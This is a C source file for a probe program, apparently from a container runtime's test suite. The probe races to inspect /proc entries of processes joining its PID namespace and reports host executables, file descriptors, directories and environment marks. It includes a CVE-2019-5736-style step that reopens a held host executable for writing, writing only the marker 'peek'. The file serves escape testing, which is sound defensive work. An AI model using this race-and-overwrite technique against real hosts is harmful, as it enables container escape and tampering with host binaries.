/* Races for what a newcomer in a PID namespace has of the host: `peek COUNT` forks COUNT processes
   that try to open /proc/PID/{exe,fd,root,cwd} and to read /proc/PID/environ of every process that
   comes after them, until TERM.  Prints "foreign.KIND=WHAT" for each thing that is not the
   container's own, "foreign.written=PATH" for a foreign program that it could write to, and at the
   end of each process how many newcomers it has "met" and how often one was "denied" to it. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { most_lines = 64, look_ahead = 16 };

static volatile sig_atomic_t ended;

static struct {
  char lines[most_lines][PATH_MAX];
  int count;
  long met;
  long denied;
  int held; /* O_PATH of a foreign program, to be written to once nobody executes it; -1: none */
} findings = {.held = -1};

static void end(int signal) {
  (void)signal;
  ended = 1;
}

/* Prints each finding once. */
static void report(const char* kind, const char* what) {
  char line[PATH_MAX];
  snprintf(line, sizeof line, "foreign.%s=%.3000s\n", kind, what);
  for (int i = 0; i < findings.count; ++i) {
    if (strcmp(findings.lines[i], line) == 0) return;
  }
  if (findings.count == most_lines) return;
  strcpy(findings.lines[findings.count++], line);
  dprintf(1, "%s", line);
}

static int is_same(int fd, const char* path) {
  struct stat a, b;
  return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

static void report_link(const char* kind, const char* link) {
  char target[PATH_MAX];
  const ssize_t length = readlink(link, target, sizeof target - 1);
  target[length < 0 ? 0 : length] = '\0';
  if (strncmp(target, "pipe:", 5) == 0 || strncmp(target, "socket:", 7) == 0)
    target[strcspn(target, ":")] = '\0'; /* its number is always another */
  report(kind, target);
}

static void report_fd(const char* kind, int fd) {
  char link[64];
  snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
  report_link(kind, link);
}

/* O_PATH of /proc/PID/NAME; -1 when there is none for us. */
static int open_of(pid_t pid, const char* name) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  const int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0 && (errno == EACCES || errno == EPERM)) ++findings.denied;
  return fd;
}

/* CVE-2019-5736: a program that runs cannot be written to, one that did can. */
static void write_to_held(void) {
  if (findings.held < 0) return;
  char link[64];
  snprintf(link, sizeof link, "/proc/self/fd/%d", findings.held);
  const int fd = open(link, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return;
  if (write(fd, "peek", 4) == 4) report_link("written", link);
  close(fd);
}

static void look_at_exe(pid_t pid) {
  const int fd = open_of(pid, "exe");
  if (fd < 0) return;
  if (is_same(fd, "/probe") || is_same(fd, "/peek")) {
    close(fd);
    return;
  }
  report_fd("exe", fd);
  if (findings.held < 0) {
    findings.held = fd;
  } else {
    close(fd);
  }
}

static void look_at_directory(pid_t pid, const char* name) {
  const int fd = open_of(pid, name);
  if (fd < 0) return;
  if (!is_same(fd, "/")) report_fd(name, fd);
  close(fd);
}

static void look_at_fds(pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR* dir = opendir(path);
  if (!dir) {
    if (errno == EACCES || errno == EPERM) ++findings.denied;
    return;
  }
  /* The owner of the directory may count the names; what they lead to is another question. */
  for (struct dirent* entry; (entry = readdir(dir));) {
    if (atoi(entry->d_name) <= 2) continue; /* stdio is given to it */
    char name[32];
    snprintf(name, sizeof name, "fd/%.20s", entry->d_name);
    const int fd = open_of(pid, name);
    if (fd < 0) continue;
    if (!is_same(fd, "/")) report_fd("fd", fd);
    close(fd);
  }
  closedir(dir);
}

/* The test marks the caller's environment. */
static void look_at_environment(pid_t pid) {
  static const char mark[] = "CALLER=";
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/environ", pid);
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  char text[65536];
  const ssize_t length = read(fd, text, sizeof text - 1);
  close(fd);
  if (length <= 0) return;
  text[length] = '\0';
  for (const char* each = text; each < text + length; each += strlen(each) + 1) {
    if (strncmp(each, mark, sizeof mark - 1) == 0) report("environ", mark);
  }
}

static void look_at(pid_t pid) {
  look_at_exe(pid);
  look_at_fds(pid);
  look_at_directory(pid, "root");
  look_at_directory(pid, "cwd");
  look_at_environment(pid);
}

/* Numbers are given in order: the next newcomer is waited for where it will be. */
static void race(pid_t next) {
  while (!ended) {
    for (pid_t pid = next; pid < next + look_ahead && !ended; ++pid) {
      if (kill(pid, 0) != 0 && errno == ESRCH) continue;
      while (!ended && (kill(pid, 0) == 0 || errno != ESRCH)) look_at(pid);
      ++findings.met;
      next = pid + 1;
    }
    write_to_held();
  }
  dprintf(1, "met=%ld\ndenied=%ld\n", findings.met, findings.denied);
}

int main(int argc, char** argv) {
  const int count = argc > 1 ? atoi(argv[1]) : 1;
  signal(SIGTERM, end);
  for (int i = 0; i < count; ++i) {
    if (fork() != 0) continue;
    race(getpid() - i + count);
    return 0;
  }
  printf("ready=1\n");
  fflush(stdout);
  while (!ended) pause();
  kill(0, SIGTERM);
  while (wait(NULL) > 0) continue;
  return 0;
}
